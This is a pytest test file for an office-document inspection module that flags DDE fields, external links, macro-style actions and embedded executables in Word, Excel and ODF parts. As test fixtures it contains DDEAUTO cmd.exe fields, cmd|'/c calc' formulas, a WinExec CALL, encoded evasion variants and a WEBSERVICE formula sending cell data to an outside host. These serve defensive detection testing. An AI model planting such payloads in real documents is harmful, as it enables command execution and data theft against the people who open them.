"""Inspection of office files: what runs or reaches out is found in every part."""

import io
import zipfile

import pytest

from crpv_portal.common import office_inspection
from crpv_portal.common.office_inspection import OfficeTrouble, trouble_in_office

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF = "urn:oasis:names:tc:opendocument:xmlns"
NS = (
    f'xmlns:office="{ODF}:office:1.0" xmlns:text="{ODF}:text:1.0" xmlns:table="{ODF}:table:1.0" '
    f'xmlns:draw="{ODF}:drawing:1.0" xmlns:meta="{ODF}:meta:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)
RELATIONSHIP = '<R><Relationship Type="x/{}" Target="{}" TargetMode="{}"/></R>'


def trouble(content: str | bytes, name: str = "word/document.xml") -> OfficeTrouble | None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    with zipfile.ZipFile(written) as archive:
        return trouble_in_office(archive, lambda held: b"kept" in held)


def field(*words: str, name: str = "instrText") -> str:
    runs = "".join(f"<w:r><w:{name}>{each}</w:{name}></w:r>" for each in words)
    begin, separate, end = (
        f'<w:fldChar w:fldCharType="{kind}"/>' for kind in ("begin", "separate", "end")
    )
    return f"<w:d {W}>{begin}{runs}{separate}<w:t>DDE</w:t>{end}</w:d>"


@pytest.mark.parametrize(
    "content",
    [
        field(' HYPERLINK "https://a.test" '),
        field("PAGE"),
        field("DDEAUTO", name="t"),
        f"<w:d {W}>{field('TOC')}{field('REF ddeauto')}</w:d>",
        '<s xmlns="x"><f>SUM(A1:A9)</f><f>"cmd|x"&amp;IMAGES(1)</f><v>=cmd|1</v></s>',
        RELATIONSHIP.format("hyperlink", "mailto:a@a.test", "External"),
        RELATIONSHIP.format("image", "media/image1.png", "Internal"),
        f'<d {NS}><text:a xlink:href="https://a.test"/></d>',
        f'<d {NS}><draw:image xlink:href="Pictures/a.png"/></d>',
        f'<d {NS}><meta:template xlink:href="file:///usr/share/a.ott"/></d>',
        f'<d {NS}><table:c table:formula="of:=SUM([.A1])"/><text:p>DDE(</text:p></d>',
        f'<svg {NS}><image xlink:href="data:image/png;base64,AA"/></svg>',
    ],
)
def test_what_asks_nothing_of_elsewhere_is_no_trouble(content: str) -> None:
    assert trouble(content) is None


@pytest.mark.parametrize(
    "content",
    [
        field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
        field(" dd", "eauto ", "cmd"),
        field(' INCLUDEPICTURE "https://a.test/a.png" \\\\d'),
        f'<w:p {W}><w:fldSimple w:instr=" INCLUDETEXT a.docx "/></w:p>',
        f"<w:p {W}><w:instrText>DDE x y</w:instrText></w:p>",
        '<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
        '<connections xmlns="x"><connection id="1" refreshOnLoad="1"/></connections>',
        '<s xmlns="x"><f>_xlfn.WEBSERVICE("https://a.test/"&amp;A1)</f></s>',
        "<s xmlns=\"x\"><f>cmd|'/c calc'!A0</f></s>",
        f'<d {NS}><office:dde-source office:dde-application="soffice"/></d>',
        f'<d {NS}><table:c table:formula="of:=DDE(&quot;soffice&quot;;1)"/></d>',
        f'<d {NS}><table:cell-range-source xlink:href="../a.ods"/></d>',
        f'<d {NS}><draw:image xlink:href="//a.test/spy.png"/></d>',
        RELATIONSHIP.format("externalLinkPath", "a.xlsx", "External"),
    ],
)
def test_what_is_asked_of_elsewhere_is_found(content: str) -> None:
    assert trouble(content) is OfficeTrouble.ELSEWHERE


@pytest.mark.parametrize(
    "content",
    [
        field("MACROBUTTON Run here"),
        '<s xmlns="x"><f>CALL("kernel32","WinExec","JFJ","calc",0)</f></s>',
        '<p xmlns="x"><hlinkClick action="ppaction://program"/></p>',
        RELATIONSHIP.format("hyperlink", "JavaScript:alert(1)", "External"),
        f'<d {NS}><text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/></d>',
    ],
)
def test_what_would_run_is_found(content: str) -> None:
    assert trouble(content) is OfficeTrouble.PROGRAM


@pytest.mark.parametrize(
    "content",
    [
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"MZ\x90\0",
        b"PK\x03\x04 an archive of programs",
        RELATIONSHIP.format("aFChunk", "a.html", "Internal"),
        f'<d {NS}><draw:object-ole xlink:href="./Object 1"/></d>',
    ],
)
def test_files_inside_the_file_are_found(content: str | bytes) -> None:
    assert trouble(content, "word/embeddings/a.bin") is OfficeTrouble.OBJECT


def test_a_part_is_read_whatever_its_name_and_its_encoding() -> None:
    assert trouble(b"PK\x03\x04 kept", "word/embeddings/a.xlsx") is None
    hidden = field("DDEAUTO cmd")
    assert trouble(hidden, "word/media/image1.png") is OfficeTrouble.ELSEWHERE
    assert trouble(hidden.encode("utf-16"), "word/a") is OfficeTrouble.ELSEWHERE
    assert trouble(hidden.replace("DDE", "&#68;&#x44;E")) is OfficeTrouble.ELSEWHERE
    doctype = '<!DOCTYPE d [<!ENTITY a "DDEAUTO">]>'
    assert trouble(doctype + field("&a;")) is OfficeTrouble.DAMAGED


def test_elements_are_counted_over_all_parts(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office_inspection, "MAX_ELEMENTS", 10)
    assert trouble(f"<d>{'<a/>' * 9}</d>") is None
    assert trouble(f"<d>{'<a/>' * 10}</d>") is OfficeTrouble.UNBOUNDED
